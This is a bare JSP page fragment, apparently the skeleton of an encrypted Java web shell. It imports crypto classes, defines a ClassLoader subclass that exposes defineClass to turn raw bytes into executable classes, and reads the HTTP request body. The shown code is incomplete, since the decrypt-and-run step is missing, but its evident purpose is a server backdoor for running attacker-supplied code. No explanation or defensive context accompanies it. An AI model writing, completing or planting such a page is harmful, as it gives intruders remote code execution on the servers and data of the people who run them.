<%@page import="javax.crypto.*,javax.crypto.spec.*"%><%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% request.getReader().readLine(); %>
